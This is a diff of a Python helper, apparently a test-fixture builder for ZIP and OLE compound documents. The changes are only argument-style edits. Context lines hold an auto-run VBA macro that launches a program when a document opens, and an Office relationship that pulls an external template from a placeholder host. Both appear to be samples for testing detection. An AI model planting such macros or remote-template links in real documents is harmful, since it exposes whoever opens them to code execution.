@@ -14,7 +14,7 @@ END = 0xFFFFFFFE
 FREE = 0xFFFFFFFF
 
 
-def archive(members: dict[str, bytes], encrypted: bool = False) -> bytes:
+def archive(members: dict[str, bytes], *, encrypted: bool = False) -> bytes:
     """A ZIP; if ``encrypted``, it only says that it is: the flag is set, the bytes are plain."""
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
@@ -61,17 +61,17 @@ def compound(streams: dict[str, bytes], root_class: bytes = b"\0" * 16) -> bytes
         places[name] = start
         body += content.ljust(count * SECTOR, b"\0")
 
-    def entry(name: str, kind: int, start: int, size: int, child: int, right: int) -> bytes:
+    def entry(name: str, kind: int, start: int, size: int, *, child: int, right: int) -> bytes:
         raw = (name + "\0").encode("utf-16le")
         head = raw.ljust(64, b"\0") + struct.pack("<HBBIII", len(raw), kind, 1, FREE, right, child)
         class_id = root_class if kind == 5 else b"\0" * 16
         return head + class_id + struct.pack("<IQQIQ", 0, 0, 0, start, size)
 
     names = list(contents)
-    directory = entry("Root Entry", 5, END, 0, 1 if names else FREE, FREE)
+    directory = entry("Root Entry", 5, END, 0, child=1 if names else FREE, right=FREE)
     for index, name in enumerate(names):
         right = index + 2 if index + 1 < len(names) else FREE
-        directory += entry(name, 2, places[name], len(streams[name].ljust(4096, b"\0")), FREE, right)
+        directory += entry(name, 2, places[name], len(streams[name].ljust(4096, b"\0")), child=FREE, right=right)
     header = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
     header += b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, END, 0, END, 0)
     header += struct.pack("<I", 0) + struct.pack("<I", FREE) * 108
@@ -93,7 +93,8 @@ def vba_module(source: str) -> bytes:
 MACRO = 'Sub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "calc.exe"\r\nEnd Sub\r\n'
 RELATIONSHIPS = (
     '<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
-    '2006/relationships/attachedTemplate" Target="http://example.invalid/t.dotm" TargetMode="External"/></Relationships>'
+    '2006/relationships/attachedTemplate" Target="http://example.invalid/t.dotm" '
+    'TargetMode="External"/></Relationships>'
 )
 
 
